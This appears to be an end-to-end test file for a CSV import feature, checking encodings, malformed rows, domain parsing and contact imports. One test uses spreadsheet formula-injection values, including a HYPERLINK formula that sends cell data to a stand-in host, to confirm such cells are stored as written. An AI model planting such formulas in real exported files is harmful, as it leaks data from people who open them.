import { hugeCellCsv, wideCsv } from "../fixtures/csv/generate.ts";
import { expect, test } from "./fixtures.ts";
import {
  companiesOf,
  contactsOf,
  fixture,
  importAlone,
  makeImporter,
  openNewCampaign,
} from "./pages/import-results.ts";
import { checkRows, chooseFile, csvFile, importFile, openImport, sendRows } from "./pages/imports.ts";

const names = (rows: Map<string, unknown>) => [...rows.keys()].sort();

test("a file that is no list is refused with what it is, and nothing is saved", async ({
  quietPage,
  product,
}) => {
  const importer = await makeImporter(quietPage, product);
  const campaignId = await openNewCampaign(importer);
  const dialog = await openImport(quietPage);
  for (const [file, message] of [
    ["not-a-csv.csv", "is an image, not a CSV file"],
    ["empty.csv", "is empty"],
    ["blank-lines.csv", "has only blank lines"],
    ["header-only.csv", "has a header but no rows below it"],
  ] as const) {
    await chooseFile(quietPage, fixture(file));
    await expect(dialog.getByRole("alert")).toContainText(`“${file}” ${message}`);
  }
  const { count } = await importer.client
    .from("import_jobs")
    .select("*", { count: "exact", head: true })
    .eq("campaign_id", campaignId)
    .throwOnError();
  expect(count).toBe(0);
});

test("a file without one good row names each row and its reason, and cannot be sent", async ({
  quietPage,
  product,
}) => {
  const importer = await makeImporter(quietPage, product);
  const campaignId = await openNewCampaign(importer);
  const dialog = await openImport(quietPage);
  await chooseFile(quietPage, fixture("no-valid-rows.csv"));
  await checkRows(quietPage);
  await expect(dialog.getByText("No row of this file can be imported")).toBeVisible();
  await expect(
    dialog.getByRole("row").filter({ hasText: "“not a domain” is not a web address" }),
  ).toContainText("3");
  await expect(dialog.getByRole("row").filter({ hasText: "“http://” is not a web address" })).toContainText(
    "4",
  );
  await expect(dialog.getByRole("button", { name: "Import" })).toBeDisabled();
  expect(names(await companiesOf(importer.client, campaignId))).toEqual([]);
});

test("a file without a header is noticed, and its first row is a company", async ({ quietPage, product }) => {
  const importer = await makeImporter(quietPage, product);
  const campaignId = await openNewCampaign(importer);
  const dialog = await openImport(quietPage);
  await chooseFile(quietPage, fixture("no-header.csv"));
  await expect(dialog.getByRole("checkbox", { name: "The file has a header" })).not.toBeChecked();
  await checkRows(quietPage);
  await sendRows(quietPage);
  const companies = await companiesOf(importer.client, campaignId);
  expect([...companies.values()].map(({ domain }) => domain).sort()).toEqual([
    "elmgrove-dental.example",
    "kestrel-robotics.example",
    "oakline-furniture.example",
  ]);
});

test("names and places arrive as written in every encoding", async ({ quietPage, product }) => {
  const importer = await makeImporter(quietPage, product);
  for (const file of ["utf-16le-bom.csv", "utf-16be-bom.csv", "utf-8-bom.csv"]) {
    const companies = await importAlone(importer, fixture(file));
    expect(companies.size, file).toBe(3);
    expect(companies.get("Müller & Söhne")?.custom, file).toEqual({ City: "Göppingen" });
    expect(companies.get("株式会社ひばり精機")?.custom, file).toEqual({ City: "諏訪市" });
    expect(companies.get("Café Zürich")?.custom, file).toEqual({ City: "Basel" });
  }
  const latin = await importAlone(importer, fixture("latin-1.csv"));
  expect(latin.get("Müller & Söhne")?.custom).toEqual({ Ort: "Göppingen" });
  expect(latin.get("Bäckerei Weiß")?.custom).toEqual({ Ort: "Füssen" });
  const windows = await importAlone(importer, fixture("windows-1252.csv"));
  expect(windows.get("Café “Zürich”")?.custom).toEqual({ Note: "Lunch – €12" });
  expect(windows.get("O’Connell’s")?.custom).toEqual({ Note: "…" });
});

test("separators, quotes and line breaks inside cells stay inside their cells", async ({
  quietPage,
  product,
}) => {
  const importer = await makeImporter(quietPage, product);
  const semicolons = await importAlone(importer, fixture("semicolons.csv"));
  expect(semicolons.size).toBe(3);
  expect(semicolons.get("Fenwick; Rowe")?.custom).toEqual({ Revenue: "98,20" });
  const tabs = await importAlone(importer, fixture("tabs.tsv"));
  expect(tabs.get("Fenwick & Rowe")?.custom).toEqual({ City: "Edinburgh; Scotland" });
  expect(tabs.get("Kestrel Robotics")?.custom).toEqual({ City: "Portland, OR" });
  const quoted = await importAlone(importer, fixture("quoted-newlines.csv"));
  expect(quoted.size).toBe(3);
  expect(quoted.get('The "Old" Quay')?.address).toBe("14 Albert Quay\nAberdeen");
  expect(quoted.get("Kestrel Robotics")?.address).toMatch(/^1820 NW Overton Street\r?\nPortland, OR 97209$/);
});

test("rows that are torn, short or long do not disturb the others", async ({ quietPage, product }) => {
  const importer = await makeImporter(quietPage, product);
  const uneven = await importAlone(importer, fixture("uneven-rows.csv"));
  expect(uneven.get("Kestrel Robotics")?.custom).toEqual({});
  expect(uneven.get("Oakline Furniture")).toMatchObject({
    custom: { City: "High Point", "Extra cell 1": "extra", "Extra cell 2": "cells" },
  });
  expect(uneven.get("Elmgrove Dental")?.custom).toEqual({ City: "Brighton" });

  const campaignId = await openNewCampaign(importer);
  const dialog = await openImport(quietPage);
  await chooseFile(quietPage, fixture("unclosed-quote.csv"));
  await checkRows(quietPage);
  await expect(dialog.getByRole("row").filter({ hasText: "never closed" })).toContainText("3");
  await sendRows(quietPage);
  expect(names(await companiesOf(importer.client, campaignId))).toEqual([
    "Elmgrove Dental",
    "Kestrel Robotics",
  ]);
});

test("a column twice, 300 columns or a cell of a megabyte lose nothing else", async ({
  quietPage,
  product,
}) => {
  const importer = await makeImporter(quietPage, product);
  const twice = await importAlone(importer, fixture("column-twice.csv"));
  expect(twice.get("Kestrel Robotics")).toMatchObject({
    phone: "+15035550142",
    domain: "kestrel-robotics.example",
    custom: { "Phone (2)": "+15035550143", website: "https://kestrel-robotics.example/en" },
  });
  const wide = await importAlone(importer, csvFile("wide.csv", wideCsv()));
  expect(wide.get("Wide two")?.domain).toBe("wide-two.example");
  expect(Object.keys(wide.get("Wide two")?.custom ?? {})).toHaveLength(298);

  const campaignId = await openNewCampaign(importer);
  const dialog = await openImport(quietPage);
  await chooseFile(quietPage, csvFile("huge.csv", hugeCellCsv()));
  await checkRows(quietPage);
  await expect(dialog.getByRole("row").filter({ hasText: "“Note” has 1,000,000 characters" })).toContainText(
    "3",
  );
  await sendRows(quietPage);
  expect(names(await companiesOf(importer.client, campaignId))).toEqual(["Small One", "Small Two"]);
});

test("cells that look like formulas are kept as written", async ({ quietPage, product }) => {
  const importer = await makeImporter(quietPage, product);
  const companies = await importAlone(importer, fixture("formula-cells.csv"));
  expect(companies.size).toBe(6);
  expect(companies.get('=HYPERLINK("http://evil.test/?x="&A1,"Click")')?.custom).toEqual({ Note: "=1+1" });
  expect(companies.get("-Minus GmbH")).toMatchObject({ phone: "-12", custom: { Note: "-2+3" } });
  expect(companies.get("@At Sign Ltd")?.custom).toEqual({ Note: "\t=TAB()" });
});

test("one company is one row, however often and in whatever spelling it comes", async ({
  quietPage,
  product,
}) => {
  const importer = await makeImporter(quietPage, product);
  const campaignId = await openNewCampaign(importer);
  await importFile(quietPage, fixture("duplicate-domains.csv"));
  const domainsNow = async () =>
    [...(await companiesOf(importer.client, campaignId)).values()].map(({ domain }) => domain).sort();
  const three = ["kestrel-robotics.example", "oakline-furniture.example", "shop.kestrel-robotics.example"];
  expect(await domainsNow()).toEqual(three);

  await importFile(
    quietPage,
    csvFile("later.csv", "Company,Website\r\nKestrel,HTTPS://WWW.Kestrel-Robotics.example/x\r\n"),
  );
  expect(await domainsNow()).toEqual(three);

  const unnamed = await importAlone(importer, fixture("names-only.csv"));
  expect([...unnamed.values()].map(({ domain }) => domain)).toEqual([null, null, null]);
  expect(names(unnamed)).toEqual(["Elmgrove Dental", "Kestrel Robotics", "Oakline Furniture"]);
});

test("a domain is found in every form people write it", async ({ quietPage, product }) => {
  const importer = await makeImporter(quietPage, product);
  const companies = await importAlone(importer, fixture("domain-forms.csv"));
  const domains = Object.fromEntries([...companies.values()].map(({ name, domain }) => [name, domain]));
  expect(domains).toEqual({
    URL: "url.example",
    "URL with path": "path.example",
    "Upper case": "upper.example",
    Email: "email.example",
    Mailto: "mailto.example",
    Port: "port.example",
    "User info": "userinfo.example",
    IDN: "xn--bcher-kva.example",
    Punycode: "xn--bcher-kva.test",
    "Trailing dot": "dot.example",
    Spaces: "spaces.example",
    "No scheme with path": "slash.example",
    "Two domains": null,
    "Not a domain": null,
    "IP address": null,
    "One label": null,
    Empty: null,
  });
  expect(JSON.stringify([...companies.values()])).not.toContain("secret");
});

test("files of people become contacts at their companies", async ({ quietPage, product }) => {
  const importer = await makeImporter(quietPage, product);
  const apollo = await openNewCampaign(importer);
  const dialog = await openImport(quietPage);
  await chooseFile(quietPage, fixture("contacts-apollo.csv"));
  await expect(dialog.getByRole("radio", { name: "Contacts" })).toBeChecked();
  await checkRows(quietPage);
  await expect(
    dialog.getByRole("row").filter({ hasText: "No name, e-mail address or LinkedIn profile." }),
  ).toContainText("5");
  await sendRows(quietPage);
  const people = await contactsOf(importer.client, apollo);
  expect(names(people)).toEqual(["Anita Desai", "Naomi Okafor", "Peter Lindqvist"]);
  expect(people.get("Anita Desai")).toMatchObject({
    email: null,
    company: { domain: "elmgrove-dental.example" },
  });
  expect(people.get("Peter Lindqvist")).toMatchObject({ company: { domain: "kestrel-robotics.example" } });
  expect(names(await companiesOf(importer.client, apollo))).toEqual(["Elmgrove Dental", "Kestrel Robotics"]);

  const clay = await openNewCampaign(importer);
  await importFile(quietPage, fixture("contacts-clay.csv"));
  const found = await contactsOf(importer.client, clay);
  expect(found.get("Dr. Anders Vestergaard")).toMatchObject({
    email: null,
    linkedin_url: "https://dk.linkedin.com/in/anders-v",
  });
  expect(found.size).toBe(3);

  const hubspot = await importAlone(importer, fixture("companies-hubspot.csv"));
  expect([...hubspot.values()].map(({ name, domain }) => [name, domain]).sort()).toEqual([
    ["Elmgrove Dental", "elmgrove-dental.example"],
    ["Kestrel Robotics", "kestrel-robotics.example"],
    ["Old Quay Capital", null],
  ]);
});
